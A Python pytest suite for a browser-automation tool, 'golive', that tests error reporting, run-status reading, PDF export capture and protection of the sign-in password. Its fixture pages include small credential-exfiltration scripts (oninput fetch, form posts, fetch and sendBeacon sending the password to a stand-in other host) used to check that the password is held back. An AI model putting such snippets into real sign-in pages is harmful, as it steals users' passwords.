"""The four user steps on pages that golive did not make: what is read of them, and what is said when they fail."""

import json
import shutil
import socket
import time
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hostile_product import Handler, hostile, says
from other_site import PACKET, PDF, OtherSite, Reply, serving, target_of, worked
from playwright.sync_api import Browser, Page, sync_playwright

from golive.config.target import StatusWords, Target
from golive.errors import StepFailed, Unexpected, Unreachable
from golive.facts import Journey, StepSeen
from golive.model.artefact import ReviewPack
from golive.verdict import Verdict
from golive.workflow import browser_export
from golive.workflow.in_page import FIND_STATUS, word_of
from golive.workflow.proof import prove_step
from golive.workflow.walk import Walk

Actions = Sequence[Mapping[str, Any]]
CASE = {"do": "go", "path": "/case"}
INLINE = {"Content-Type": "application/pdf", "Content-Disposition": "inline"}
SAVED = {"Content-Type": "application/octet-stream", "Content-Disposition": "attachment; filename=a.pdf"}


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A real browser."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"))
        yield browser
        browser.close()


def failing(browser: Browser, site: OtherSite, *actions: Mapping[str, Any], step: str = "upload") -> tuple[str, float]:
    """What is said of a step that fails, and after how many seconds."""
    workflow = worked(browser, site.target(**{step: actions}))
    begun = time.monotonic()
    try:
        with pytest.raises(StepFailed) as failed:
            workflow.upload(PACKET) if step == "upload" else getattr(workflow, step)()
        return str(failed.value), time.monotonic() - begun
    finally:
        workflow.clean()


# ---------------------------------------------------------------------- what the product did

SEND = """<main><h1>New case</h1><input type=file id=f><div id=toast class="MuiSnackbar" hidden></div><script>
f.addEventListener('change', async () => {
  const matter = '/api/v1/matters/8d3b1f60-aaaa-4bbb-8ccc-0123456789ab';
  const answer = await fetch(matter + '/documents?token=x', {method: 'POST', body: 'x'});
  if (answer.ok) return location.assign('/app/cases/7/review');
  toast.textContent = 'Upload of John Carter failed'; toast.hidden = %s;
});</script></main>"""
UPLOAD = (CASE, {"do": "upload", "css": "input[type=file]"}, {"do": "wait_address", "pattern": "/review$"})
DOCUMENTS = "POST /api/v1/matters/8d3b1f60-aaaa-4bbb-8ccc-0123456789ab/documents"


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"detail": "direct upload is not configured"}, " (direct upload is not configured)"),
        ({"error": {"code": "UPLOAD_DISABLED", "message": "x"}}, " (UPLOAD_DISABLED)"),
        ({"detail": [{"type": "missing", "loc": ["body"], "msg": "Field required"}]}, " (missing)"),
        ({"detail": f"No room for {PACKET.truth.patient.name}, {PACKET.truth.patient.mrn}"}, " (no room for …)"),
        ("<h1>Not Implemented</h1>", ""),
    ],
    ids=["words", "code", "FastAPI", "a patient", "no JSON"],
)
def test_a_refused_request_is_told(chromium: Browser, body: str | dict[str, Any], code: str) -> None:
    """A step that fails tells method, route, status and the API's short code, without an id, a query or a name."""
    with serving({"GET /case": SEND % "true", DOCUMENTS: Reply(body, 501)}) as site:
        said, seconds = failing(chromium, site, *UPLOAD)

    told = f"POST /api/v1/matters/{{id}}/documents was answered 501{code}. The browser stayed on /case."
    assert said.lower() == told.lower()
    assert seconds < 5.5


def test_a_toast_is_told_without_names(chromium: Browser) -> None:
    """What a toast says is told in plain words; a name in it is left out."""
    with serving({"GET /case": SEND % "false", DOCUMENTS: Reply({}, 503)}) as site:
        said, _seconds = failing(chromium, site, *UPLOAD)

    assert 'The page says "Upload of … failed".' in said
    assert "Carter" not in said


def test_a_message_without_a_role_is_told(chromium: Browser) -> None:
    """What a page says beside a refused request is told though its markup does not call it an alert."""
    page = SEND.replace("MuiSnackbar", "css-1x2y3z") % "false"
    with serving({"GET /case": page, DOCUMENTS: Reply({}, 500)}) as site:
        said, _seconds = failing(chromium, site, *UPLOAD)

    assert 'The page says "Upload of … failed".' in said


def test_an_error_without_a_refused_request_is_told_soon(chromium: Browser) -> None:
    """A toast that comes of what we did, and says that it failed, ends the step too: it need not be HTTP's error."""
    page = """<input type=file id=f><p role=alert id=a></p><script>
    f.onchange = () => { setTimeout(() => { a.textContent = 'The file is too large'; }, 300); };</script>"""
    with serving({"GET /case": page}) as site:
        said, seconds = failing(chromium, site, *UPLOAD)

    assert said == 'The page says "The file is too large". The browser stayed on /case.'
    assert seconds < 5.5


def test_what_works_is_not_accused(chromium: Browser) -> None:
    """A banner, a refused metric, a missing picture, an answer at the second try and a slow page stop no step."""
    page = """<div role=alert>Some services are unavailable: errors are possible</div><img src=/none.png>
    <input type=file id=f><script>
    fetch('/api/exports/latest'); fetch('/api/telemetry', {method: 'POST'});
    f.addEventListener('change', async () => {
      await fetch('/api/upload', {method: 'POST'});
      setTimeout(async () => { await fetch('/api/upload', {method: 'POST'});
        setTimeout(() => location.assign('/app/cases/7/review'), 4500); }, 500);
    });</script>"""
    upload = [Reply({}, 503), Reply({})]
    with serving({"GET /case": page, "GET /app/cases/7/review": "fine", "POST /api/upload": upload}) as site:
        workflow = worked(chromium, site.target(upload=UPLOAD))
        workflow.upload(PACKET)
        workflow.clean()
        assert site.asked.count("POST /api/upload") == 2


def test_dialogs_of_the_browser_are_answered(chromium: Browser) -> None:
    """A page that asks whether to leave it is left, nothing is agreed to, and what an alert says is told."""
    page = """<button onclick="window.onbeforeunload = (e) => e.preventDefault();
    alert(confirm('Sure?') ? 'Agreed' : 'Upload failed')">Go</button>"""
    press = {"do": "click", "text": "Go"}
    with serving({"GET /case": page}) as site:
        workflow = worked(chromium, site.target(upload=[CASE, press, {"do": "go", "path": "/"}]))
        workflow.upload(PACKET)
        workflow.clean()
        said, _seconds = failing(chromium, site, CASE, press, {"do": "wait_text", "text": "never", "seconds": 0.5})

    assert said == 'The page says "Upload failed". The page did not show "never".'


def test_an_address_with_an_error_is_a_refusal(chromium: Browser) -> None:
    """A sign-in that ends on ?error=... is told at once, with the product's word and no other part of the query."""
    page = """<form action=/in method=post><button>Go</button></form>"""
    back = Reply("", 303, {"Location": "/auth/signin?error=CredentialsSignin&callbackUrl=secret"})
    replies = {"GET /case": page, "POST /in": back, "GET /auth/signin": "sign in"}
    with serving(replies) as site:
        said, seconds = failing(
            chromium,
            site,
            CASE,
            {"do": "click", "role": "button", "name": "Go"},
            {"do": "wait_address", "pattern": "^/app"},
        )

    assert said == "The browser stayed on /auth/signin?error=CredentialsSignin."
    assert seconds < 3.5


@pytest.mark.parametrize(
    ("page", "told"),
    [
        (
            "<h2>Application error: a client-side exception has occurred</h2>",
            "Application error: a client-side exception",
        ),
        ("<main><h1>Something went wrong</h1><p>Ref 1</p></main>", "Something went wrong"),
    ],
)
def test_an_error_page_is_told(chromium: Browser, page: str, told: str) -> None:
    """An error boundary in the page's place ends a step that waits, and is named."""
    with serving({"GET /case": page}) as site:
        said, seconds = failing(chromium, site, CASE, {"do": "wait_text", "text": "Upload Complete"})

    assert said == f'The page is an error page ("{told}"). The page did not show "Upload Complete".'
    assert seconds < 5.5


def test_a_page_that_answers_an_error_is_told_at_once(chromium: Browser) -> None:
    """A page that answers 500 is not waited on, whether it is opened or arrived at."""
    page = """<a href=/app/cases>on</a>"""
    with serving({"GET /case": page, "GET /app/cases": Reply("oh", 500)}) as site:
        opened, first = failing(chromium, site, {"do": "go", "path": "/app/cases"})
        click = {"do": "click", "text": "on"}
        arrived, second = failing(chromium, site, CASE, click, {"do": "wait_address", "pattern": "^/app"})

    assert opened == "GET /app/cases was answered 500. The browser could not open /app/cases."
    assert arrived == "GET /app/cases was answered 500. The browser came to /app/cases, which is an error's page."
    assert max(first, second) < 3.5


@pytest.mark.parametrize("body", ["", "<h1>Oh</h1>"], ids=["empty", "a page"])
def test_an_error_without_a_page_is_told(chromium: Browser, body: str) -> None:
    """An error is told by its status whether it has a page or not."""
    with serving({"GET /case": Reply(body, 500)}) as site:
        said, _seconds = failing(chromium, site, CASE, {"do": "wait_status", "css": "main"}, step="chronology")

    assert said.startswith("GET /case was answered 500. The browser could not ")


def test_a_page_of_404_that_works_is_not_accused(chromium: Browser) -> None:
    """A script may make the page that is asked for of an answer of 404, as hosts of files do; bare it is an error."""
    page = Reply(
        "<title>x</title><script>setTimeout(() => { document.body.innerHTML = '<b>success</b>'; }, 1500)</script>", 404
    )
    with serving({"GET /case": page}) as site:
        workflow = worked(chromium, site.target(chronology=[CASE, {"do": "wait_status", "css": "body"}]))
        workflow.chronology()
        workflow.clean()
        said, _seconds = failing(chromium, site, CASE, step="chronology")
        assert said == "GET /case was answered 404. The browser could not open /case."


def test_a_session_that_does_not_hold_is_told_at_once(chromium: Browser) -> None:
    """A page that leads back to sign-in is not waited on for a run's end."""
    replies = {"GET /case": Reply("", 303, {"Location": "/auth/signin"}), "GET /auth/signin": "sign in"}
    with serving(replies) as site:
        said, seconds = failing(chromium, site, CASE, {"do": "wait_status", "css": "main"}, step="chronology")

    assert said == "The browser was sent to /auth/signin in place of /case: its session does not hold."
    assert seconds < 3


def test_a_script_that_breaks_is_told(chromium: Browser) -> None:
    """A script's own error is told by its kind and plain words."""
    page = """<button onclick="null.go('Carter')">Go</button>"""
    with serving({"GET /case": page}) as site:
        said, _seconds = failing(
            chromium, site, CASE, {"do": "click", "text": "Go"}, {"do": "wait_text", "text": "x", "seconds": 0.5}
        )

    assert said.startswith("A script of the page failed: TypeError: ")
    assert "Carter" not in said


# ---------------------------------------------------------------------- a run's state

CASES_OF_STATUS = {
    "glued": ("<h2>Run History</h2><ul><li><span>success</span><span>Jan 14, 2026</span></li></ul>", "success"),
    "upper case by CSS": ("<p style='text-transform:uppercase'><b>success</b></p>", "success"),
    "upper case": ("<table><tr><td>Jan 14<td>NEEDS REVIEW</table>", "needs_review"),
    "beside its label": ("<div><span>Status: <!-- -->partial<!-- --></span><span>12 s</span></div>", "partial"),
    "with a sign": ("<li>Jan 14 <em>✓ Success</em></li>", "success"),
    "shadow": ("<div id=h></div><script>h.attachShadow({mode:'open'}).innerHTML='<b>failed</b>'</script>", "failed"),
    "beside help": (
        """<p>A run ends as <code>success</code>, <code>partial</code> or <code>failed</code>.</p>
        <p>When it says <em>success</em>, you can export the chronology.</p>
        <ul><li><b>success</b>: all is there</li><li><b>failed</b> - try again</li></ul>
        <button>failed</button><label>failed</label><template><b>failed</b></template><b hidden>failed</b>
        <table><tr><td>Jan 14<td>needs_review</table>""",
        "needs_review",
    ),
    "stages": ("<ol><li>pending<li>running<li>success</ol><p>Result <strong>partial</strong></p>", "partial"),
    "a present stage": ("<ol><li>pending<li>running<li aria-current=step>success</ol>", "success"),
    "in one text with its label": ("<p>Run status: success</p>", "success"),
    "a toast": ("<div role=alert><b>Success</b></div><div class=toast>failed</div><i>partial</i>", "partial"),
    "other cases": (
        "<ul><li><a href=/c/1>Other</a> <i>failed</i><li><a href=/c/2>GOLIVE-run-7-web</a> <i>success</i></ul>",
        "success",
    ),
}


@pytest.fixture(scope="module")
def page(chromium: Browser) -> Iterator[Page]:
    """One page, for what is only read of it."""
    page = chromium.new_page()
    yield page
    page.close()


def status_on(page: Page, body: str) -> tuple[str, tuple[str, ...]]:
    """The word for the end of the run on a page, and all words that are shown for it."""
    words = StatusWords()
    page.set_content(f"<!doctype html><main><h1>Case</h1>{body}</main>")
    marks = [PACKET.title, "8d3b1f60"]
    looked_for = [*words.active, *words.delivered, *words.failed]
    return word_of(page.locator("main").evaluate_all(FIND_STATUS, [looked_for, marks]), words)


@pytest.mark.parametrize(("body", "word"), CASES_OF_STATUS.values(), ids=CASES_OF_STATUS)
def test_a_status_is_read_from_the_smallest_element(page: Page, body: str, word: str) -> None:
    """The word for this run is the text that is exactly one, in any case; never help, a button or another's run."""
    assert status_on(page, body)[0] == word


NONE_YET = {
    "running": ("<b>running</b>", ("running",)),
    "another's": ("<b>running</b><aside><b>success</b></aside>", ("running", "success")),
    "help only": ("<p>The run ends as success or failed.</p><p>When it is <b>success</b>, all can read it.</p>", ()),
    "contradicting": ("<div><b>success</b></div><p>then <b>failed</b></p>", ("success", "failed")),
    "unknown": ("<b>completed</b>", ()),
}


@pytest.mark.parametrize(("body", "shown"), NONE_YET.values(), ids=NONE_YET)
def test_a_status_that_is_none(page: Page, body: str, shown: tuple[str, ...]) -> None:
    """While a run goes on, or where words contradict each other, there is no end of it."""
    assert status_on(page, body) == ("", shown)


@pytest.mark.parametrize(
    ("body", "word"),
    [("Run 3: success, 12 s", "success"), ("success or failed", ""), ("When it is success, export it", "")],
)
def test_a_narrow_element_may_say_more(page: Page, body: str, word: str) -> None:
    """An element that the target file names so narrowly that it has a few words may have the word among them."""
    words = StatusWords()
    page.set_content(f"<p id=s>{body}</p>")
    found = page.locator("#s").evaluate_all(FIND_STATUS, [[*words.delivered, *words.failed], []])

    assert word_of(found, words)[0] == word


def test_a_strict_page_is_read(chromium: Browser) -> None:
    """A page whose policy forbids every script that it does not bring is read as any other."""
    strict = {"Content-Security-Policy": "default-src 'none'; require-trusted-types-for 'script'"}
    page = Reply("<main><button>Go</button><b>success</b></main>", 200, strict)
    steps = [CASE, {"do": "click", "text": "Go"}, {"do": "wait_status", "css": "main"}]
    with serving({"GET /case": page}) as site:
        workflow = worked(chromium, site.target(chronology=steps))
        workflow.chronology()
        assert workflow.run_status == "success"
        workflow.clean()


@pytest.mark.parametrize(
    ("body", "error", "said"),
    [
        ("<b>running</b>", StepFailed, 'The page shows no finished run, but "running".'),
        ("<b>completed</b>", Unexpected, "no word that is known for a run.*add its word"),
        ("<i>success</i><p>then <b>failed</b></p>", Unexpected, 'more than one state .* .("success", "failed")'),
        ("<b>failed</b>", StepFailed, 'The page shows the run as "failed".'),
    ],
    ids=["running", "unknown", "contradicting", "failed"],
)
def test_a_run_without_a_good_end(chromium: Browser, body: str, error: type[Exception], said: str) -> None:
    """A run that is not over or failed is the product's failure; a page that can't be understood is "can't tell"."""
    steps = [CASE, {"do": "wait_status", "css": "main", "seconds": 0.5}]
    with serving({"GET /case": f"<main>{body}</main>"}) as site:
        workflow = worked(chromium, site.target(chronology=steps))
        with pytest.raises(error, match=said):
            workflow.chronology()
        workflow.clean()


# ---------------------------------------------------------------------- the exact one


LIKE = "<button>Chronology PDF (MEDIATION)</button><button class=x>Chronology PDF</button>"


@pytest.mark.parametrize(
    ("page", "action"),
    [
        (LIKE, {"role": "button", "name": "Chronology PDF"}),
        (LIKE, {"role": "button", "name": "CHRONOLOGY PDF"}),
        ("<button class=x>Chronology PDF (2 pages)</button>", {"role": "button", "name": "Chronology PDF"}),
        ("<i>Export all</i><i class=x>Export</i>", {"text": "Export"}),
        ("<button hidden>Go</button><button class=x>Go</button>", {"text": "Go"}),
    ],
    ids=["exact", "exact in another case", "only a longer one", "text", "the one that is seen"],
)
def test_the_button_of_exactly_that_name_is_pressed(chromium: Browser, page: str, action: dict[str, str]) -> None:
    """Of names that begin alike the exact one is pressed; one that only contains it where there is no other."""
    script = "<script>document.querySelector('.x').onclick = () => { location.hash = 'right'; }</script>"
    steps = (CASE, {"do": "click", **action}, {"do": "wait_text", "text": "never", "seconds": 0.3})
    with serving({"GET /case": page + script}) as site:
        workflow = worked(chromium, site.target(upload=steps))
        with pytest.raises(StepFailed):
            workflow.upload(PACKET)
        assert workflow._page is not None
        assert workflow._page.url.endswith("#right")
        workflow.clean()


def test_two_of_one_name_are_told(chromium: Browser) -> None:
    """Where two elements have the very name, none is pressed by chance."""
    with serving({"GET /case": "<button>Download</button><button>Download</button>"}) as site:
        workflow = worked(chromium, site.target(upload=[CASE, {"do": "click", "role": "button", "name": "Download"}]))
        with pytest.raises(Unexpected, match="2 elements of the page are button"):
            workflow.upload(PACKET)
        workflow.clean()


# ---------------------------------------------------------------------- the export

MADE = f"new Blob([{json.dumps(PDF.decode())}])"
BUTTONS = {
    "new tab": "window.open('/inline.pdf')",
    "same page": "location.assign('/inline.pdf')",
    "saved from a new tab": "window.open('/saved.pdf', '_blank')",
    "frame": "const f = document.createElement('iframe'); f.src = '/inline.pdf'; document.body.append(f)",
    "fetched, then a blob": "fetch('/inline.pdf').then((r) => r.blob()).then((b) => open(URL.createObjectURL(b)))",
    "made here, then a blob": f"const u = URL.createObjectURL({MADE}); window.open(u); URL.revokeObjectURL(u)",
    "made here, then saved": f"const a = document.createElement('a'); a.href = URL.createObjectURL({MADE}); "
    "a.download = 'x.pdf'; a.click()",
}


@pytest.mark.parametrize("script", BUTTONS.values(), ids=BUTTONS)
def test_an_export_is_taken_however_it_opens(chromium: Browser, script: str) -> None:
    """A PDF that is saved, opens inline, in a new tab or frame, or as a blob is the export."""
    page = f"<button id=b>Chronology PDF</button><script>b.onclick = () => {{ {script} }}</script>"
    steps = (CASE, {"do": "download", "role": "button", "name": "Chronology PDF", "seconds": 15})
    replies = {"GET /case": page, "GET /inline.pdf": Reply(PDF, 200, INLINE), "GET /saved.pdf": Reply(PDF, 200, SAVED)}
    with serving(replies) as site:
        workflow = worked(chromium, site.target(export=steps))
        assert workflow.export() == ReviewPack("chronology.pdf", PDF)
        assert workflow._context is not None
        assert len(workflow._context.pages) == 1
        workflow.clean()


def test_an_export_that_fails_is_told(chromium: Browser) -> None:
    """A new tab that answers an error ends the step at once, with the API's word."""
    page = "<button onclick=\"window.open('/export')\">Chronology PDF</button>"
    with serving({"GET /case": page, "GET /export": Reply({"detail": "mode differs"}, 409)}) as site:
        step = {"do": "download", "role": "button", "name": "Chronology PDF"}
        said, seconds = failing(chromium, site, CASE, step, step="export")

    assert said.startswith("GET /export was answered 409 (mode differs). No file came of: ")
    assert seconds < 4


# ---------------------------------------------------------------------- nobody there


def naming(target: Target, address: str) -> Target:
    """The target whose file says that users are signed in at this address."""
    return msgspec.structs.replace(target, app=msgspec.structs.replace(target.app, sign_in_origins=(address,)))


def test_nothing_is_typed_on_a_page_of_somebody_else(chromium: Browser) -> None:
    """A sign-in page that leads to another port is no page to type a password on, however like the own one it looks."""
    form = '<label>Password<input type=password oninput="fetch(&quot;/took?&quot; + this.value)"></label>'
    fill = [{"do": "go", "path": "/auth/signin"}, {"do": "fill", "label": "Password", "value": "{password}"}]
    with serving({"GET /in": form}) as other:
        away = Reply("", 302, {"Location": f"{other.address}/in"})
        with serving({"GET /auth/signin": away, "GET /own": form}) as site:
            own = [{"do": "go", "path": "/own"}, fill[1]]
            with pytest.raises(StepFailed, match="sent to another host, port or scheme, and nothing was typed there"):
                worked(chromium, site.target(sign_in=fill))
            worked(chromium, site.target(sign_in=own))
            asked_before = [*other.asked]
            worked(chromium, naming(site.target(sign_in=fill), other.address))

    assert "GET /took" in site.asked
    assert "GET /took" not in asked_before
    assert "GET /took" in other.asked


FIELD = "<label>Password<input id=p type=password name=p></label><button>Sign in</button>"
SCRIPT = FIELD + "<script>document.querySelector('button').onclick = () => { %s };</script>"
SENDS = {
    "form": f"<form method=post action=OTHER/took>{FIELD}</form>",
    "address": f"<form action=OTHER/took>{FIELD}</form>",
    "window": f"<form method=post action=OTHER/took target=_blank>{FIELD}</form>",
    "redirect": f"<form method=post action=/on>{FIELD}</form>",
    "script": SCRIPT % "fetch('OTHER/took', {method: 'POST', body: JSON.stringify({p: p.value})})"
    ".then(sent => sent.text()).then(text => document.body.append(text))",
    "packed": SCRIPT % "navigator.sendBeacon('OTHER/took', btoa(p.value))",
}
SIGN_IN = [
    {"do": "go", "path": "/auth/signin"},
    {"do": "fill", "label": "Password", "value": "{password}"},
    {"do": "click", "role": "button", "name": "Sign in"},
    {"do": "wait_text", "text": "taken", "seconds": 3.0},
]


@pytest.mark.parametrize("page", SENDS.values(), ids=SENDS)
def test_the_password_is_sent_nowhere_else(chromium: Browser, page: str) -> None:
    """However the target's own sign-in page would send it to another address, it is held, and nobody can tell more."""
    with serving({}) as other:
        on = Reply("", 307, {"Location": f"{other.address}/took"})
        with serving({"GET /auth/signin": page.replace("OTHER", other.address), "POST /on": on}) as site:
            where = (
                rf"would have sent the password to {other.address}, so it was not sent\. .* sign_in_origins in \[app\]"
            )
            with pytest.raises(Unexpected, match=where):
                worked(chromium, site.target(sign_in=SIGN_IN))

    assert not any(one.endswith("/took") for one in other.asked)


@pytest.mark.parametrize("sends", ["form", "redirect", "script"])
def test_the_password_is_sent_where_users_are_signed_in(chromium: Browser, sends: str) -> None:
    """An address that the target file names takes it as the target's own do."""
    with serving({"POST /took": Reply("taken", headers={"Access-Control-Allow-Origin": "*"})}) as other:
        on = Reply("", 307, {"Location": f"{other.address}/took"})
        with serving({"GET /auth/signin": SENDS[sends].replace("OTHER", other.address), "POST /on": on}) as site:
            worked(chromium, naming(site.target(sign_in=SIGN_IN), other.address)).clean()

    assert "POST /took" in other.asked


def test_others_are_asked_while_somebody_signs_in(chromium: Browser) -> None:
    """Scripts and figures of others come and go beside a sign-in, and a file goes where the product says."""
    page = (
        SCRIPT % "fetch('/in', {method: 'POST', body: p.value})"
        + """<script src=OTHER/script.js></script>
    <input type=file id=f><p id=said></p><script>
    fetch('OTHER/figures', {method: 'POST', body: 'a page was seen'});
    f.onchange = async () => {
      const sent = await fetch('OTHER/store?signature=x', {method: 'PUT', body: f.files[0]});
      said.textContent = await sent.text();
    };</script>"""
    )
    lets = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Methods": "PUT"}
    lets["Access-Control-Allow-Headers"] = "content-type"
    script = Reply("document.body.append('ready')", headers={"Content-Type": "text/javascript"})
    asked = ("POST /figures", "OPTIONS /store", "PUT /store")
    upload = [{"do": "upload", "css": "#f"}, {"do": "wait_text", "text": "stored", "seconds": 10.0}]
    with serving({"GET /script.js": script, **{one: Reply("stored", headers=lets) for one in asked}}) as other:
        own = page.replace("OTHER", other.address)
        with serving({"GET /auth/signin": own, "POST /in": ""}) as site:
            ready = {"do": "wait_text", "text": "ready", "seconds": 10.0}
            workflow = worked(chromium, site.target(sign_in=[*SIGN_IN[:3], ready], upload=upload))
            workflow.upload(PACKET)
            workflow.clean()

    assert set(other.asked) >= {"GET /script.js", *asked}
    assert "POST /in" in site.asked


@pytest.mark.parametrize("passes", ["", "a made-up pass"])
def test_who_is_let_by_a_pause_says_so_to_it_alone(chromium: Browser, passes: str) -> None:
    """New cases and uploads carry the pass, at the target's own addresses; nothing else does, and nobody else's."""
    asks = """<p id=said></p><script>
    const ask = (url, method) => fetch(url, {method, mode: 'no-cors'}).catch(() => 0);
    (async () => {
      for (const path of ['/firms/f/matters', '/api/x/matters/m/documents', '/matters/m/runs', '/auth/signin'])
        for (const method of ['GET', 'POST']) await ask(path, method);
      await ask('OTHER/firms/f/matters', 'POST');
      said.textContent = 'asked';
    })();</script>"""
    steps = [CASE, {"do": "wait_text", "text": "asked", "seconds": 10.0}]
    with serving({}) as other, serving({"GET /case": asks.replace("OTHER", other.address)}) as site:
        workflow = worked(chromium, site.target(upload=steps), passes=passes)
        workflow.upload(PACKET)
        workflow.clean()

    assert "POST /firms/f/matters" in other.asked
    assert other.passed == []
    assert "POST /matters/m/runs" in site.asked
    wanted = ["POST /firms/f/matters", "POST /api/x/matters/m/documents"] if passes else []
    assert site.passed == wanted


def test_an_export_has_a_bound(chromium: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that is too large for an export is a sentence, and not read."""
    monkeypatch.setattr(browser_export, "_MOST", len(PDF) - 1)
    given = Reply(PDF, 200, {"Content-Disposition": "attachment", "Content-Type": "application/pdf"})
    steps = [{"do": "go", "path": "/"}, {"do": "download", "role": "link", "name": "Export"}]
    with serving({"GET /": "<a href=/file>Export</a>", "GET /file": given}) as site:
        workflow = worked(chromium, site.target(export=steps))
        with pytest.raises(Unexpected, match=f"has {len(PDF)} bytes, and golive takes in {len(PDF) - 1}"):
            workflow.export()
        workflow.clean()


def test_a_website_that_is_not_there_is_cannot_tell(chromium: Browser) -> None:
    """Refused, no such name, and https asked of http each have their sentence, and are no STOP."""
    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    with serving({}) as site:
        wrong_scheme = site.address.replace("http:", "https:")
        said = []
        for address in (f"http://localhost:{port}", "https://no-such-host.invalid", wrong_scheme):
            workflow = worked_not(chromium, address)
            said.append(workflow.step("sign-in"))

    assert f"Nothing takes connections at localhost:{port}: it refused." in said[0].problem
    assert "no-such-host.invalid" in said[1].problem
    assert "it may be an http address" in said[2].problem
    assert all(one.unsure and one.problem.startswith("The website can't be reached: ") for one in said)
    finding = prove_step("workflow-sign-in", Journey(steps=(said[0],)))
    assert finding.verdict is Verdict.INCONCLUSIVE


def worked_not(browser: Browser, address: str) -> Journey:
    """The journey to a website that is not there."""
    from golive.pdf import read_output
    from golive.workflow.browser import BrowserWorkflow

    workflow = BrowserWorkflow(browser, target_of(address), lambda _secret: "x", delete=lambda _matter: ())
    walk = Walk(workflow, PACKET, read_output)
    walk.upto("sign-in")
    return walk.finish()


# ---------------------------------------------------------------------- the trace


def test_a_trace_has_actions_only(chromium: Browser, tmp_path: Path) -> None:
    """No text of a page, a toast, a console or an answer is in the trace, and what golive did is."""
    page = """<div role=alert>Carter canary</div><button title="Carter canary">Go</button>
    <script>console.log('Carter canary'); fetch('/api/x?Carter=canary')</script>"""
    with serving({"GET /case": page}) as site:
        steps = (CASE, {"do": "click", "text": "Go"}, {"do": "wait_text", "text": "never", "seconds": 0.6})
        workflow = worked(chromium, site.target(upload=steps), trace=tmp_path / "trace.zip")
        with pytest.raises(StepFailed):
            workflow.upload(PACKET)
        workflow.clean()

    with zipfile.ZipFile(tmp_path / "trace.zip") as archive:
        content = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Carter" not in content
    assert b'"goto"' in content
    assert b'"click"' in content


def test_an_unsure_step_is_no_stop() -> None:
    """A step whose problem is the product's is STOP, and one that could not be asked is "can't tell"."""
    for unsure, verdict in ((False, Verdict.FAIL), (True, Verdict.INCONCLUSIVE)):
        step = StepSeen(step="sign-in", problem="It is so.", unsure=unsure)
        assert prove_step("workflow-sign-in", Journey(steps=(step,))).verdict is verdict


SYNCHRONOUS = """<h1>Case</h1><button>Save</button><script>
onload = () => setTimeout(() => { const x = new XMLHttpRequest(); x.open('GET', '/held', false); x.send(); }, 300);
</script>"""


@pytest.mark.parametrize(
    ("page", "action", "said"),
    [
        (SYNCHRONOUS, {"do": "wait_text", "text": "never", "seconds": 1.0}, 'did not show "never"'),
        (SYNCHRONOUS, {"do": "wait_status", "css": "h1", "seconds": 1.0}, "showed no word"),
        ("<a href=/held download=a.pdf>Save</a>", {"do": "download", "text": "Save", "seconds": 1.0}, "No file came"),
    ],
    ids=["text", "status", "download"],
)
def test_a_step_ends_in_its_own_time(chromium: Browser, page: str, action: dict[str, Any], said: str) -> None:
    """A page whose script is held up, and a file that does not end, hold a step up no longer than it may last."""
    let_go: list[bool] = []

    def held(one: Handler) -> None:
        one.begin("application/octet-stream", Content_Length=str(2**20))
        one.wfile.write(bytes(2**16))
        let_go.append(one.hostile.over.wait(20))

    with hostile(
        {"/": says(b"", kind="text/html"), "/case": says(page.encode(), kind="text/html"), "/held": held}
    ) as site:
        workflow = worked(chromium, target_of(site.url, upload=[CASE, action]))
        with pytest.raises((StepFailed, Unexpected), match=said):
            workflow.upload(PACKET)
        workflow.clean()
        ended_first = not let_go

    assert ended_first


def test_nobody_is_reached_in_mid_step(chromium: Browser) -> None:
    """A page that leads to where nobody answers is "can't tell", with address and cause."""
    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    page = f"<a href=http://localhost:{port}/app>on</a>"
    steps = (CASE, {"do": "click", "text": "on"}, {"do": "wait_address", "pattern": "^/never"})
    with serving({"GET /case": page}) as site:
        workflow = worked(chromium, site.target(upload=steps))
        begun = time.monotonic()
        with pytest.raises(Unreachable, match=f"Nothing takes connections at localhost:{port}"):
            workflow.upload(PACKET)
        assert time.monotonic() - begun < 5
        workflow.clean()
